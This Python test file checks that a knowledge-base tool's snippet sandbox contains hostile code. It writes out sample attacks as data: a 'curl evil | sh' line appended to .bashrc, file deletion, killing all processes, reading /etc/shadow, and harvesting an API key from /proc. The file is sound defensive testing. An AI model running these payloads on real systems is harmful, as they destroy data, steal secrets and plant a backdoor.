"""Hostile snippets (issue 24): each goes for the person's files, secrets, sockets or processes.

The same knowledge tree is validated twice: by kb running as root (how CI runs), and by kb running
as an ordinary uid (65534, dropped to with setpriv), the way most people run it. Each test asserts
that what its snippet went for is untouched: the file's bytes, the secret's absence from everything
kb wrote, the socket's accept count, the process table.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from pathlib import Path

import pytest

from kb.workspace import init_workspace

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the sandbox is Linux-only")

NOBODY = 65534
KEY = "sk-kbhostile-" + uuid.uuid4().hex  # what $OPENAI_API_KEY holds while kb runs
MARK = "kbhostile" + uuid.uuid4().hex[:10]  # in every name a snippet makes, to look for afterwards

PROFILE = """
timeout_s = 3
memory_limit_mb = 1024
max_processes = 64
parallel = 2
satisfies = ["network"]
"""

KB_TOML_EXTRA = """
[llm.openai]
base_url = "https://api.openai.com/v1"
api_key_env = "OPENAI_API_KEY"
"""


def snippets(t: dict) -> dict[str, str]:
    """name -> Markdown with one hostile snippet; ``t`` holds the targets' paths."""
    py = "```python\n{}\n```\n"
    return {
        "bashrc": py.format(
            "import os, pwd\n"
            f"for home in ({t['home']!r}, pwd.getpwuid(os.getuid()).pw_dir, os.path.expanduser('~')):\n"
            "    try:\n"
            "        open(os.path.join(home, '.bashrc'), 'a').write('curl evil | sh\\n')\n"
            "        print('APPENDED', home)\n"
            "    except OSError as exc:\n"
            "        print('blocked', exc)\n"
        ),
        "workspace_edit": py.format(
            "import os\n"
            f"for name in ('kb.toml', 'INDEX.md'):\n"
            f"    for folder in ({t['ws']!r}, os.environ.get('OLDPWD') or '/nonexistent', '../../..'):\n"
            "        try:\n"
            "            open(os.path.join(folder, name), 'a').write('\\nowned = true\\n')\n"
            "            print('EDITED', folder, name)\n"
            "        except OSError as exc:\n"
            "            print('blocked', exc)\n"
        ),
        "skill_delete": py.format(
            "import os, shutil\n"
            f"for path in ({t['ws'] + '/SKILL.md'!r},):\n"
            "    try:\n"
            "        os.remove(path)\n"
            "        print('DELETED', path)\n"
            "    except OSError as exc:\n"
            "        print('blocked', exc)\n"
            f"shutil.rmtree({t['ws'] + '/knowledge'!r}, ignore_errors=True)\n"
        ),
        "kill_parent": py.format(
            "import os, signal\n"
            "me = os.getpid()\n"
            "targets = {os.getppid()} | {int(p) for p in os.listdir('/proc') if p.isdigit()}\n"
            "for pid in sorted(targets - {me, 0}):\n"
            "    try:\n"
            "        os.kill(pid, signal.SIGKILL)\n"
            "    except OSError:\n"
            "        pass\n"
            "try:\n"
            "    os.kill(-1, signal.SIGKILL)\n"
            "except OSError:\n"
            "    pass\n"
            "print('still here')\n"
        ),
        "innocent_a": py.format("import time\ntime.sleep(1.5)\nprint('innocent a')"),
        "innocent_b": py.format("import time\ntime.sleep(1.5)\nprint('innocent b')"),
        "orphan_loop": py.format(
            "import subprocess, sys\n"
            f"subprocess.Popen([sys.executable, '-c', 'while True: pass  # {MARK}'], start_new_session=True)\n"
            "print('spawned')\n"
        ),
        "tmp_files": py.format(
            "import os\n"
            "for folder in ('/tmp', '/dev/shm', '/var/tmp'):\n"
            "    try:\n"
            f"        open(os.path.join(folder, '{MARK}'), 'w').write('left behind')\n"
            "        print('WROTE', folder)\n"
            "    except OSError as exc:\n"
            "        print('blocked', folder, exc)\n"
        ),
        "read_secrets": py.format(
            "import os\n"
            f"for path in ('/etc/shadow', {t['root_file']!r}):\n"
            "    try:\n"
            "        print(open(path).read())\n"
            "    except OSError as exc:\n"
            "        print('blocked', path, exc)\n"
            "try:\n"
            "    print('ROOT', sorted(os.listdir('/root')))\n"
            "except OSError as exc:\n"
            "    print('blocked /root', exc)\n"
        ),
        "unix_socket": py.format(
            "import socket\n"
            f"for address in ({t['socket']!r}, '\\0{MARK}'):\n"
            "    s = socket.socket(socket.AF_UNIX)\n"
            "    try:\n"
            "        s.connect(address)\n"
            "        print('CONNECTED', repr(address))\n"
            "    except OSError as exc:\n"
            "        print('blocked', exc)\n"
        ),
        # The same, from a snippet allowed the network: it shares the host's network namespace.
        "unix_socket_network": "```python kb:requires=network\n" + (
            "import socket\n"
            f"for address in ({t['socket']!r}, '\\0{MARK}'):\n"
            "    s = socket.socket(socket.AF_UNIX)\n"
            "    try:\n"
            "        s.connect(address)\n"
            "        print('CONNECTED', repr(address))\n"
            "    except OSError as exc:\n"
            "        print('blocked', exc)\n"
        ) + "```\n",
        # Prints the key reversed (so redaction cannot hide a leak), then hunts for it in /proc.
        "env_key": py.format(
            "import os\n"
            "key = os.environ.get('OPENAI_API_KEY', '')\n"
            "print('ENV', key[::-1])\n"
            "for pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
            "    try:\n"
            "        data = open(f'/proc/{pid}/environ', 'rb').read()\n"
            "    except OSError:\n"
            "        continue\n"
            "    for item in data.split(b'\\0'):\n"
            "        if item.startswith(b'OPENAI_API_KEY='):\n"
            "            print('PROC', pid, item.decode()[::-1])\n"
        ),
        # A knowledge file that carries the key itself: whatever it prints, kb writes it masked.
        "printed_key": py.format(f"print('the key is {KEY}')"),
    }


class UnixListener:
    """A 0777 unix socket on the host (path and abstract), counting connections."""

    def __init__(self, path: str) -> None:
        self.accepted = 0
        self.socks = []
        for address in (path, "\0" + MARK):
            sock = socket.socket(socket.AF_UNIX)
            sock.bind(address)
            sock.listen(8)
            sock.settimeout(0.2)
            self.socks.append(sock)
        os.chmod(path, 0o777)
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self) -> None:
        while not self.stop.is_set():
            for sock in self.socks:
                try:
                    conn, _ = sock.accept()
                    self.accepted += 1
                    conn.close()
                except OSError:
                    pass

    def close(self) -> None:
        self.stop.set()
        self.thread.join(2)
        for sock in self.socks:
            sock.close()


def _marked_processes() -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if MARK.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
                    found.append(int(entry))
            except OSError:
                pass
    return found


def _closed_ancestor(path: str) -> Path | None:
    """The first folder on the way to ``path`` that other uids cannot search (/root, for a pyenv Python)."""
    for folder in reversed(Path(os.path.realpath(path)).parents):
        if not folder.stat().st_mode & 0o001:
            return folder
    return None


def _as_nobody_prefix(scratch: Path) -> list[str] | None:
    """A command prefix that runs as uid 65534 with no capabilities at all. Where the interpreter
    sits under a folder closed to other uids (a pyenv Python under /root here; a person's own Python
    is theirs), it runs in a private mount namespace in which only that folder is opened up: a tmpfs
    over it holding the interpreter's prefix (this is test set-up, as root, before dropping the uid)."""
    setpriv, unshare = shutil.which("setpriv"), shutil.which("unshare")
    if setpriv is None:
        return None
    drop = [setpriv, f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--inh-caps=-all", "--bounding-set=-all"]
    closed = _closed_ancestor(sys.base_prefix)
    if closed is not None:
        if unshare is None:
            return None
        keep = scratch / "keep"
        keep.mkdir()
        script = (
            f"mount --bind {sys.base_prefix} {keep} && mount -t tmpfs -o mode=755 none {closed} && "
            f"mkdir -p {sys.base_prefix} && mount --move {keep} {sys.base_prefix} && exec \"$@\""
        )
        drop = [unshare, "--mount", "--propagation", "private", "sh", "-c", script, "sh", *drop]
    if subprocess.run([*drop, sys.executable, "-c", "import kb, os; assert os.getuid() == 65534"], capture_output=True, check=False).returncode != 0:
        return None
    return drop


def kernel_allows_namespaces(prefix: list[str] | None = None) -> bool:
    """Whether this kernel (and container) lets the caller make the sandbox's namespaces, asked of
    util-linux directly, not of kb: where it does not, kb can only say so, and these tests skip."""
    unshare = shutil.which("unshare")
    if unshare is None:
        return True  # cannot ask: let the tests say what kb does
    user = bool(prefix) or os.geteuid() != 0
    flags = ["--mount", "--pid", "--fork", "--ipc"] + (["--user", "--map-current-user"] if user else [])
    return subprocess.run([*(prefix or []), unshare, *flags, "true"], capture_output=True, check=False).returncode == 0


class Run:
    """One hostile run: the targets before, kb's outputs after."""

    def __init__(self, base: Path, as_user: bool) -> None:
        self.as_user = as_user
        base.mkdir(parents=True, exist_ok=True)
        os.chmod(base, 0o755)
        self.home = base / "home"
        self.home.mkdir()
        (self.home / ".bashrc").write_text("# the person's shell\n")
        self.ws_root = base / "ws"
        init_workspace(self.ws_root)
        (self.ws_root / "kb.toml").write_text((self.ws_root / "kb.toml").read_text() + KB_TOML_EXTRA)
        (self.ws_root / "INDEX.md").write_text("# Index\n")
        (self.ws_root / "SKILL.md").write_text("---\nname: kb\n---\n")
        (self.ws_root / "validators" / "hostile.toml").write_text(PROFILE)
        # A root-only file where a snippet can name it: /etc is visible to snippets (read-only).
        self.root_file = Path("/etc") / f"{MARK}-{'user' if as_user else 'root'}-0600"
        self.root_secret = "ROOTONLY-" + uuid.uuid4().hex
        self.root_file.write_text(self.root_secret + "\n")
        os.chmod(self.root_file, 0o600)
        self.socket_path = str(base / f"{MARK}.sock")
        targets = {"home": str(self.home), "ws": str(self.ws_root), "root_file": str(self.root_file), "socket": self.socket_path}
        for name, text in snippets(targets).items():
            path = self.ws_root / "knowledge" / "hostile" / f"{name}.md"
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
        self.watched = {p: p.read_bytes() for p in (self.home / ".bashrc", self.ws_root / "kb.toml", self.ws_root / "INDEX.md", self.ws_root / "SKILL.md")}
        if as_user:
            subprocess.run(["chown", "-R", f"{NOBODY}:{NOBODY}", str(self.home), str(self.ws_root)], check=True)

    def execute(self) -> None:
        listener = UnixListener(self.socket_path)
        junit = self.ws_root / "junit.xml"
        env = {
            **{k: v for k, v in os.environ.items() if k in ("PATH", "LANG")},
            "HOME": str(self.home),
            "OPENAI_API_KEY": KEY,
            "COLUMNS": "200",
        }
        if not self.as_user and not kernel_allows_namespaces():
            listener.close()
            pytest.skip("this kernel or container allows root no mount and PID namespaces (no CAP_SYS_ADMIN?)")
        command = [sys.executable, "-m", "kb", "validate-snippets", "--profile", "hostile", "--json", "--junit", str(junit)]
        if self.as_user:
            prefix = _as_nobody_prefix(self.ws_root.parent)
            if prefix is None:
                listener.close()
                pytest.skip("cannot run as an ordinary uid here (no setpriv, or the interpreter is unreadable)")
            if not kernel_allows_namespaces(prefix):
                listener.close()
                pytest.skip("this kernel or container gives an ordinary user no user namespace")
            command = [*prefix, *command]
        try:
            proc = subprocess.run(command, cwd=self.ws_root, env=env, capture_output=True, text=True, timeout=240, check=False)
        finally:
            time.sleep(0.3)
            listener.close()
        self.proc = proc
        self.accepted = listener.accepted
        self.results_text = (self.ws_root / "snippets" / "results.json").read_text()
        self.results = json.loads(self.results_text)
        self.junit_text = junit.read_text()
        self.printed = proc.stdout
        self.rows = {r["file"].split("/")[-1][:-3]: r for r in self.results["snippets"]}

    def cleanup(self) -> None:
        self.root_file.unlink(missing_ok=True)
        for folder in ("/tmp", "/dev/shm", "/var/tmp"):
            Path(folder, MARK).unlink(missing_ok=True)
        for pid in _marked_processes():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass

    def everything_written(self) -> str:
        return self.results_text + self.junit_text + self.printed + self.proc.stderr


@pytest.fixture(scope="module", params=["root", "user"])
def hostile(request):
    if os.geteuid() != 0:
        pytest.skip("the hostile suite plants root-owned targets: run it as root (CI does)")
    as_user = request.param == "user"
    # Not under pytest's tmp folder: its parents are root's own (0700), closed to the ordinary uid.
    base = Path(tempfile.mkdtemp(prefix=f"hostile-{request.param}-"))
    os.chmod(base, 0o755)
    run = Run(base / "run", as_user)
    try:
        run.execute()
        yield run
    finally:
        run.cleanup()
        shutil.rmtree(base, ignore_errors=True)


def test_run_completes_with_results_and_reports_full_isolation(hostile):
    assert hostile.proc.returncode in (0, 1), hostile.proc.stderr
    iso = hostile.results["isolation"]
    assert iso.get("complete") is True, iso
    assert "mount namespace" in iso["filesystem"] and "pid namespace" in iso["processes_seen"]


def test_bashrc_append_is_contained(hostile):
    assert (hostile.home / ".bashrc").read_bytes() == hostile.watched[hostile.home / ".bashrc"]
    appended = [line for line in hostile.rows["bashrc"]["stdout_tail"].splitlines() if line.startswith("APPENDED")]
    assert all(line == "APPENDED /tmp/snippet/home" for line in appended), appended  # its own scratch HOME only


def test_kb_toml_and_index_edits_are_contained(hostile):
    for name in ("kb.toml", "INDEX.md"):
        path = hostile.ws_root / name
        assert path.read_bytes() == hostile.watched[path], name
    assert "EDITED" not in hostile.rows["workspace_edit"]["stdout_tail"]


def test_skill_md_delete_is_contained(hostile):
    path = hostile.ws_root / "SKILL.md"
    assert path.read_bytes() == hostile.watched[path]
    assert (hostile.ws_root / "knowledge" / "hostile" / "bashrc.md").exists()
    assert "DELETED" not in hostile.rows["skill_delete"]["stdout_tail"]


def test_killing_the_worker_and_kb_is_contained(hostile):
    assert hostile.rows["kill_parent"]["stdout_tail"] == "still here\n", hostile.rows["kill_parent"]
    for name in ("innocent_a", "innocent_b"):
        r = hostile.rows[name]
        assert (r["status"], r["stdout_tail"]) == ("pass", f"innocent {name[-1]}\n"), r


def test_orphan_infinite_loop_is_killed(hostile):
    assert hostile.rows["orphan_loop"]["status"] == "pass"
    assert _marked_processes() == []


def test_tmp_shm_var_tmp_files_do_not_persist(hostile):
    for folder in ("/tmp", "/dev/shm", "/var/tmp"):
        assert not Path(folder, MARK).exists(), folder
    # Its private /tmp, /dev/shm and /var/tmp were writable: they vanished with it.
    assert hostile.rows["tmp_files"]["stdout_tail"] == "WROTE /tmp\nWROTE /dev/shm\nWROTE /var/tmp\n"
    # No scratch of kb's on the host either (other programs' kb-* folders may come and go meanwhile).
    assert hostile.results["isolation"]["filesystem"].startswith("mount namespace")


def test_shadow_root_only_file_and_root_home_are_unreadable(hostile):
    out = hostile.rows["read_secrets"]["stdout_tail"]
    shadow = Path("/etc/shadow").read_text()
    root_line = next((line for line in shadow.splitlines() if line.startswith("root:")), "root:")
    assert root_line not in hostile.everything_written()
    assert hostile.root_secret not in hostile.everything_written()
    assert "blocked /etc/shadow" in out and f"blocked {hostile.root_file}" in out
    # Only the interpreter's own folders may show under /root (a pyenv Python lives there).
    interpreter = {Path(p).parts[2] for p in (sys.prefix, sys.base_prefix) if p.startswith("/root/")}
    shown = out.split("ROOT ", 1)[1] if "ROOT " in out else ""
    assert not any(f"'{name}'" in shown for name in set(os.listdir("/root")) - interpreter), shown


def test_host_unix_sockets_are_unreachable(hostile):
    assert "CONNECTED" not in hostile.rows["unix_socket"]["stdout_tail"]
    networked = hostile.rows["unix_socket_network"]
    assert networked["status"] == "pass" and f"CONNECTED {hostile.socket_path!r}" not in networked["stdout_tail"]
    if not hostile.results["isolation"]["scoped"].startswith("Landlock"):
        pytest.skip("no Landlock ABI 6 here: a snippet allowed the network reaches the host's abstract sockets")
    assert "CONNECTED" not in networked["stdout_tail"] and "Operation not permitted" in networked["stdout_tail"]
    assert hostile.accepted == 0


def test_api_key_never_reaches_the_snippet_nor_the_results(hostile):
    out = hostile.rows["env_key"]["stdout_tail"]
    assert KEY[::-1] not in hostile.everything_written(), out
    assert out.startswith("ENV \n")
    assert KEY not in hostile.everything_written()
    printed = hostile.rows["printed_key"]
    assert printed["status"] == "pass" and printed["stdout_tail"] == "the key is [redacted]\n"
